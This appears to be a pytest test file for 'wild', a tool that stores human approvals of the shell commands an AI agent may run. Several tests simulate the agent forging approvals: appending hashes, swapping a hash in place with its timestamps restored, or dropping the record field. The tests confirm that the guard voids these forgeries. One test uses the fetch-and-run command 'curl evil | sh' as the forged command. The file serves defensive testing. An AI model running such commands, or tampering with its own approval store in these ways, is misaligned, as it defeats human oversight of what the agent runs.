"""Approvals: by hash of the exact command, per project real path, outside `.wild/`, private."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import stat
import threading
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from wild.barriers.approval_set import Approvals, command_hash
from wild.barriers.approvals import (
    approve,
    changing_store,
    forget_project,
    load_approvals,
    load_project,
    pending_approvals,
    project_file,
    record_present,
    remove_void,
)
from wild.errors import FileFormatError
from wild.parsers.barriers import parse
from wild.paths import approvals_path
from wild.store.files import wild_lock


def test_approvals_live_in_the_xdg_config_folder(_isolated_home: Path) -> None:
    assert approvals_path() == _isolated_home / ".config" / "wild" / "approvals.json"


def test_default_is_under_home_dot_config(
    _isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("XDG_CONFIG_HOME")
    assert approvals_path() == _isolated_home / ".config" / "wild" / "approvals.json"


def test_hash_is_sha256_of_the_exact_command() -> None:
    assert (
        command_hash("squeue -u $USER | wc -l")
        == hashlib.sha256(b"squeue -u $USER | wc -l").hexdigest()
    )


def test_approve_then_the_command_is_allowed(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    assert load_approvals(project).allows("make check") is False
    digest = approve(project, "make check")
    assert digest == command_hash("make check")
    assert load_approvals(project).allows("make check") is True
    assert load_approvals(project).allows("make check ") is False
    assert load_approvals(project).allows("make  check") is False


def test_file_is_private_outside_the_project_and_keyed_by_real_path(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    approve(project, "make check")
    key = str(project.resolve())
    own = project_file(key)
    digest = hashlib.sha256(key.encode()).hexdigest()[:32]
    assert own == approvals_path().with_name("approvals") / f"{digest}.json"
    assert not own.is_relative_to(project)
    assert stat.S_IMODE(own.stat().st_mode) == 0o600
    assert stat.S_IMODE(own.parent.stat().st_mode) == 0o700
    assert orjson.loads(own.read_bytes()) == {
        "format": 2,
        "project": key,
        "approved": [command_hash("make check")],
    }
    assert not approvals_path().exists()  # the machine's file of every project: never written


def test_approvals_are_per_project(tmp_path: Path) -> None:
    one, two = tmp_path / "one", tmp_path / "two"
    one.mkdir()
    two.mkdir()
    approve(one, "make check")
    assert load_approvals(two).allows("make check") is False


def test_a_symlinked_spelling_of_the_project_shares_its_approvals(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    link = tmp_path / "link"
    link.symlink_to(project)
    approve(link, "make check")
    assert load_approvals(project).allows("make check") is True


def test_approving_twice_keeps_one_entry(tmp_path: Path) -> None:
    approve(tmp_path, "make check")
    approve(tmp_path, "make check")
    assert load_approvals(tmp_path).hashes == frozenset({command_hash("make check")})


def test_concurrent_approvals_are_all_kept(tmp_path: Path) -> None:
    commands = [f"check {n}" for n in range(16)]
    threads = [threading.Thread(target=approve, args=(tmp_path, c)) for c in commands]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert load_approvals(tmp_path).hashes == frozenset(command_hash(c) for c in commands)


@pytest.mark.parametrize("damage", ['{not json "%s"', '["%s"]', '{"projects": {"%s": "abc"}}'])
def test_damaged_file_approves_nothing_and_refuses_to_be_overwritten(
    tmp_path: Path, damage: str
) -> None:
    """A damaged file of wild 0.1 that may hold the project's entry (its bytes name the
    project) approves nothing, and the entry is not moved from it."""
    store = approvals_path()
    store.parent.mkdir(parents=True)
    damage %= os.path.realpath(tmp_path)
    store.write_text(damage)
    assert load_approvals(tmp_path).allows("make check") is False
    with pytest.raises(FileFormatError) as caught:
        approve(tmp_path, "make check")
    assert str(caught.value) == (
        f'{store}: is not a wild approvals file (JSON with "projects": {{path: [sha256, ...]}}); '
        "fix it or delete it and approve again"
    )
    assert store.read_text() == damage


def test_pending_approvals_lists_waiting_unapproved_commands(tmp_path: Path) -> None:
    doc = parse(
        "## [WAITING] a\n- Type: command-check\n- Check: make a\n\n"
        "## [WAITING] b\n- Type: count-based\n- Check: echo 1\n- Target: 2\n\n"
        "## [WAITING] c\n- Type: command-check\n- Check: make c\n\n"
        "## [SATISFIED] d\n- Type: command-check\n- Check: make d\n\n"
        "## [WAITING] e\n- Type: file-exists\n- File: x\n\n"
        "## [WAITING] f\n- Type: webhook\n"
    )
    approve(tmp_path, "make c")
    approvals = load_approvals(tmp_path)
    assert [b.id for b in pending_approvals(doc, approvals)] == ["a", "b"]


def test_the_recorded_trust_sits_beside_the_approvals_and_can_be_forgotten(
    tmp_path: Path,
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    approve(project, "make check")
    with changing_store(project) as entry:
        entry.trust = {"mode": "autonomous", "commandApproval": "trusted", "expiresAt": None}
    approvals, trust = load_project(project)
    assert approvals.allows("make check")
    assert trust == {"mode": "autonomous", "commandApproval": "trusted", "expiresAt": None}
    forget_project(project)
    assert load_project(project) == (Approvals(frozenset()), None)
    assert not project_file(str(project.resolve())).exists()  # nothing kept, nothing left


def test_a_damaged_store_records_no_trust(tmp_path: Path) -> None:
    store = approvals_path()
    store.parent.mkdir(parents=True)
    store.write_text('{"projects": {}, "trust": []}')
    assert load_project(tmp_path) == (Approvals(frozenset()), None)


def test_once_recorded_an_approval_wild_did_not_write_is_void(tmp_path: Path) -> None:
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    approve(project, "make before", path=store)
    # Before any agent ran here, every approval counts (a store from an older wild too).
    record_present(project, "in the store when an agent started", path=store)
    approve(project, "make by-the-human", path=store)  # wild --approve during the run
    own = project_file(os.path.realpath(project), store)
    document = orjson.loads(own.read_bytes())
    document["approved"].append(command_hash("make forged"))  # the agent's own write
    own.write_bytes(orjson.dumps(document))
    approvals = load_project(project, path=store)[0]
    assert approvals.allows("make before") and approvals.allows("make by-the-human")
    assert not approvals.allows("make forged")
    assert approvals.void == {command_hash("make forged")}
    assert remove_void(project, path=store) == {command_hash("make forged")}
    assert command_hash("make forged") not in orjson.loads(own.read_bytes())["approved"]
    assert remove_void(project, path=store) == frozenset()


def _machine_file(store: Path, projects: dict[str, object]) -> None:
    """wild 0.1's file of every project (format 1), as an older wild left it."""
    store.parent.mkdir(parents=True, exist_ok=True)
    store.write_bytes(orjson.dumps({"format": 1, **projects}))


def test_an_iteration_reads_its_own_projects_file_whatever_the_machine_holds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The loop reads the store as each agent starts and as it ends (`record_present`,
    `remove_void`) and its trust on each view (`load_project`): each reads the project's own
    file, not a file of every project of the machine (before: ~200 KB read twice per
    iteration at ~1,000 projects). A forged approval of the same size, written with the file's
    old times put back, is still found."""
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    others = {f"/elsewhere/project-{n:04}": [command_hash(f"make {n}")] for n in range(1000)}
    _machine_file(store, {"projects": others})
    for n in range(0, 1000, 10):
        approve(tmp_path / "others" / f"{n}", f"make {n}", path=store)
    approve(project, "make before", path=store)
    record_present(project, "in the store when an agent started", path=store)
    read: list[int] = []
    real_read_bytes = Path.read_bytes

    def counting(self: Path) -> bytes:
        data = real_read_bytes(self)
        read.append(len(data))
        return data

    monkeypatch.setattr(Path, "read_bytes", counting)
    for _ in range(5):  # five iterations: the store as each agent starts and ends
        record_present(project, "in the store when an agent started", path=store)
        assert remove_void(project, path=store) == frozenset()
        assert load_project(project, path=store)[0].allows("make before")
    assert len(read) == 15 and max(read) < 1000, read  # the project's own ~250 bytes
    # An agent swaps the approved hash for a forged one (in "approved", which comes first;
    # "recorded" still names the old one): same size, same times.
    own = project_file(os.path.realpath(project), store)
    before = own.stat()
    forged = own.read_bytes().replace(
        command_hash("make before").encode(), command_hash("make forgex").encode(), 1
    )
    own.write_bytes(forged)
    os.utime(own, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert own.stat().st_size == before.st_size
    assert remove_void(project, path=store) == {command_hash("make forgex")}
    assert not load_project(project, path=store)[0].allows("make forgex")


def test_a_project_without_a_file_of_its_own_counts_the_machine_files_entry(
    tmp_path: Path,
) -> None:
    """A store of wild 0.1 (one file for the machine) still counts after the upgrade: its
    approvals, the void ones still void, its recorded trust and accepted checks."""
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    key = os.path.realpath(project)
    human, forged = command_hash("make human"), command_hash("make forged")
    trust = {"mode": "autonomous", "commandApproval": "trusted", "expiresAt": None}
    _machine_file(
        store,
        {
            "projects": {key: [human, forged], "/other": [command_hash("make other")]},
            "trust": {key: trust},
            "recorded": {key: {human: "approved through wild"}},
            "checks": {key: {"checks": []}},
        },
    )
    approvals, recorded_trust = load_project(project, path=store)
    assert approvals == Approvals(frozenset({human}), frozenset({forged}))
    assert recorded_trust == trust
    assert load_approvals(tmp_path / "other", path=store).hashes == frozenset()
    from wild.barriers.approvals import load_checks

    assert load_checks(project, path=store) == {"checks": []}
    assert not project_file(key, store).exists()  # reading writes nothing


def test_the_first_change_moves_the_entry_to_its_own_file_and_the_machine_file_stays(
    tmp_path: Path,
) -> None:
    """As the first agent starts (`record_present`, under the store's lock) the project's
    entry is written to its own file, whole; the machine's file is never written, and from
    then on what appears in it for the project (an agent's forged approval, recorded too)
    counts for nothing."""
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    key = os.path.realpath(project)
    human = command_hash("make human")
    trust = {"mode": "autonomous", "commandApproval": "trusted", "expiresAt": None}
    _machine_file(store, {"projects": {key: [human]}, "trust": {key: trust}})
    machine_bytes = store.read_bytes()
    record_present(project, "in the store when an agent started", path=store)
    assert orjson.loads(project_file(key, store).read_bytes()) == {
        "format": 2,
        "project": key,
        "approved": [human],
        "trust": trust,
        "recorded": {human: "in the store when an agent started"},
    }
    assert store.read_bytes() == machine_bytes
    forged = command_hash("make forged")
    _machine_file(
        store,
        {"projects": {key: [human, forged]}, "recorded": {key: {forged: "approved through wild"}}},
    )
    approvals = load_approvals(project, path=store)
    assert approvals.hashes == frozenset({human}) and not approvals.allows("make forged")
    assert remove_void(project, path=store) == frozenset()
    approve(project, "make more", path=store)
    assert load_approvals(project, path=store).hashes == {human, command_hash("make more")}


def test_a_moved_approval_file_counts_nothing(tmp_path: Path) -> None:
    """Another project's file put in this project's place (its approvals were given to that
    folder's commands) approves nothing here, and is not written over."""
    one, two, store = tmp_path / "one", tmp_path / "two", tmp_path / "approvals.json"
    one.mkdir()
    two.mkdir()
    approve(one, "make check", path=store)
    theirs = project_file(os.path.realpath(one), store)
    mine = project_file(os.path.realpath(two), store)
    mine.write_bytes(theirs.read_bytes())
    assert load_approvals(two, path=store).hashes == frozenset()
    with pytest.raises(FileFormatError) as caught:
        approve(two, "make check", path=store)
    assert str(caught.value).startswith(f"{mine}: is not the wild approvals file of ")
    assert mine.read_bytes() == theirs.read_bytes()
    assert load_approvals(one, path=store).allows("make check")


@pytest.mark.parametrize("damage", ["{not json", "[]", '{"project": "%s", "approved": "abc"}'])
def test_a_damaged_project_file_approves_nothing_and_is_not_written_over(
    tmp_path: Path, damage: str
) -> None:
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    key = os.path.realpath(project)
    _machine_file(store, {"projects": {key: [command_hash("make check")]}})  # not read now
    own = project_file(key, store)
    own.parent.mkdir()
    own.write_text(damage.replace("%s", key))
    assert load_approvals(project, path=store).allows("make check") is False
    with pytest.raises(FileFormatError):
        approve(project, "make check", path=store)
    assert own.read_text() == damage.replace("%s", key)


def test_forgetting_a_project_the_machine_file_holds_keeps_it_forgotten(tmp_path: Path) -> None:
    """No file of its own reads as the machine file's entry: forgetting such a project keeps
    an empty file of its own, so its old approvals do not come back."""
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    key = os.path.realpath(project)
    _machine_file(store, {"projects": {key: [command_hash("make check")]}})
    forget_project(project, path=store)
    assert load_approvals(project, path=store).hashes == frozenset()
    assert orjson.loads(project_file(key, store).read_bytes())["approved"] == []


def _locks_taken(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Record each lock the approval store takes."""
    taken: list[Path] = []

    def counting(lock_path: Path, timeout: float | None = None) -> Any:
        taken.append(lock_path)
        return wild_lock(lock_path, timeout)

    monkeypatch.setattr("wild.barriers.approvals.wild_lock", counting)
    return taken


def test_the_guard_takes_no_lock_while_the_projects_file_is_as_it_left_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # As each agent starts and ends (issue 22 item 8): the lock, the read and the parse each
    # time, though nothing was there to change.
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    approve(project, "make test", path=store)
    record_present(project, "in the store when agent run 1 started", path=store)
    taken = _locks_taken(monkeypatch)
    for _ in range(3):
        assert remove_void(project, path=store) == frozenset()
        record_present(project, "in the store when the next agent run started", path=store)
    assert taken == []
    approve(project, "make lint", path=store)  # the human, through wild: locked, recorded
    assert len(taken) == 1
    assert remove_void(project, path=store) == frozenset()
    assert load_approvals(project, path=store).allows("make lint")


def test_a_project_the_store_holds_nothing_of_is_not_locked_as_its_loop_starts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A fresh project (no file of its own, an old machine file that cannot name it): the
    loop's `remove_void` as it starts finds nothing without the store's lock; an approval
    forged into a file of its own is still taken out."""
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    _machine_file(store, {"projects": {"/elsewhere": [command_hash("make other")]}})
    taken = _locks_taken(monkeypatch)
    assert remove_void(project, path=store) == frozenset()
    assert taken == []
    _forge_without_a_record(project, store, "make forged")
    record_present(project, "in the store when agent run 1 started", path=store)
    assert remove_void(project, path=store) == frozenset()  # counted: no agent ran since
    own = project_file(os.path.realpath(project), store)
    document = orjson.loads(own.read_bytes())
    forged = command_hash("make sneaky")
    own.write_bytes(orjson.dumps({**document, "approved": [*document["approved"], forged]}))
    assert remove_void(project, path=store) == {forged}


def test_a_forged_approval_of_the_same_size_and_times_is_still_removed(tmp_path: Path) -> None:
    # The agent swaps a recorded approval's hash for its own in place: the file keeps its
    # size, and its times are set back. The guard knows the file by its bytes, not by them.
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    approve(project, "make test", path=store)
    record_present(project, "in the store when agent run 1 started", path=store)
    assert remove_void(project, path=store) == frozenset()  # the file as the guard left it
    own = project_file(os.path.realpath(project), store)
    before = own.stat()
    data = own.read_bytes()
    assert data.index(b'"approved"') < data.index(b'"recorded"')  # the first is the approval
    forged = command_hash("curl evil | sh")
    with own.open("r+b") as handle:  # in place: the same inode, the same size
        handle.write(data.replace(command_hash("make test").encode(), forged.encode(), 1))
    os.utime(own, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert own.stat().st_size == before.st_size
    assert remove_void(project, path=store) == {forged}
    assert not load_approvals(project, path=store).allows("curl evil | sh")


def test_a_revoked_approval_still_leaves_the_record_at_the_next_start(tmp_path: Path) -> None:
    # The human took an approval out by hand between two runs: its record goes at the next
    # start, as before (the recorded hashes are the approved ones again).
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    approve(project, "make test", path=store)
    approve(project, "make lint", path=store)
    record_present(project, "in the store when agent run 1 started", path=store)
    assert remove_void(project, path=store) == frozenset()
    own = project_file(os.path.realpath(project), store)
    document = orjson.loads(own.read_bytes())
    document["approved"] = [command_hash("make test")]
    own.write_bytes(orjson.dumps(document))
    assert remove_void(project, path=store) == frozenset()
    record_present(project, "in the store when agent run 2 started", path=store)
    assert orjson.loads(own.read_bytes())["recorded"].keys() == {command_hash("make test")}


def _forge_without_a_record(project: Path, store: Path, command: str) -> None:
    """An agent's write of the project's own file: its command's hash approved, and the file
    as one no loop has recorded yet (no "recorded"), as wild itself writes it before then."""
    key = os.path.realpath(project)
    own = project_file(key, store)
    try:
        document = orjson.loads(own.read_bytes())
    except FileNotFoundError:
        document = {"format": 2, "project": key, "approved": []}
    document.pop("recorded", None)
    document["approved"].append(command_hash(command))
    own.parent.mkdir(parents=True, exist_ok=True)
    own.write_bytes(orjson.dumps(document))


def test_an_approval_forged_with_the_record_dropped_is_void_during_and_after_the_run(
    tmp_path: Path,
) -> None:
    """The record (which approvals wild wrote) is in the agent's reach too: an agent that
    drops it makes its file read as one no loop ran for, where every approval counts. What
    counted as this process's agent started stands instead: the forged one is void while the
    run goes on, removed as it ends, and not taken for the human's at the next start."""
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    approve(project, "make human", path=store)
    record_present(project, "in the store when agent run 1 started", path=store)
    _forge_without_a_record(project, store, "make forged")
    during = load_project(project, path=store)[0]
    assert during.allows("make human") and not during.allows("make forged")
    assert remove_void(project, path=store) == {command_hash("make forged")}
    record_present(project, "in the store when agent run 2 started", path=store)
    after = load_approvals(project, path=store)
    assert after.allows("make human") and not after.allows("make forged")


def test_an_approval_forged_while_the_machine_file_is_damaged_is_never_the_humans(
    tmp_path: Path,
) -> None:
    """wild 0.1's machine file damaged and no file of the project's own yet: recording fails
    as the agent starts (the store approves nothing). A file the agent then writes for the
    project, with no record, counts nothing during the run, is removed as the run ends, and
    is not recorded as the human's at the next start."""
    project, store = tmp_path / "p", tmp_path / "approvals.json"
    project.mkdir()
    store.write_text(f'{{"projects": {{"{os.path.realpath(project)}": [')  # damaged, naming it
    with pytest.raises(FileFormatError):
        record_present(project, "in the store when agent run 1 started", path=store)
    _forge_without_a_record(project, store, "make forged")
    assert not load_approvals(project, path=store).allows("make forged")
    assert remove_void(project, path=store) == {command_hash("make forged")}
    with contextlib.suppress(FileFormatError):
        record_present(project, "in the store when agent run 2 started", path=store)
    assert not load_approvals(project, path=store).allows("make forged")


@pytest.mark.parametrize(
    "machine",
    ["{not json", "[]", '{"projects": {"/p": "abc"}}', '{"format": 1, "projects": {"/p": []}}'],
)
def test_a_machine_file_that_cannot_name_the_project_is_not_parsed(
    tmp_path: Path, machine: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """wild 0.1's file of every project, whole or damaged, holds no entry of a project its
    bytes do not name (none has a backslash: every string is spelled as it is): it is not
    parsed (~1.4 ms at each fresh project's launch, issue 22 item 8), nothing of it counts,
    and the project's own file is made at its first change. The file is never written."""
    project, store = tmp_path / "p", approvals_path()
    project.mkdir()
    store.parent.mkdir(parents=True)
    store.write_text(machine)
    parsed: list[bytes] = []
    real_loads = orjson.loads

    def loads(data: Any) -> Any:
        parsed.append(bytes(data))
        return real_loads(data)

    monkeypatch.setattr(orjson, "loads", loads)
    assert load_approvals(project).hashes == frozenset()
    approve(project, "make check")
    record_present(project, "in the store when an agent started")
    assert load_approvals(project).allows("make check")
    assert machine.encode() not in parsed
    assert store.read_text() == machine
    forget_project(project)
    assert not load_approvals(project).allows("make check")


_KEYS = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=12)


@given(
    st.dictionaries(_KEYS, st.lists(st.sampled_from(["a", "b", "c"]), max_size=2), max_size=4),
    _KEYS,
    st.sampled_from(["orjson", "json", "json-ascii"]),
)
def test_the_machine_files_entry_is_read_as_a_full_parse_reads_it(
    projects: dict[str, list[str]], key: str, writer: str
) -> None:
    """Whatever the keys and however a JSON writer spelled them (escapes or none), bytes
    that hold a project's entry are never taken for bytes that cannot name it."""
    from wild.barriers import approvals

    document = {"format": 1, "projects": projects, "trust": {}, "recorded": {}}
    data = (
        orjson.dumps(document)
        if writer == "orjson"
        else json.dumps(document, ensure_ascii=writer == "json-ascii").encode()
    )
    for name in [key, *projects]:
        assert approvals._may_name(data, name) or name not in projects
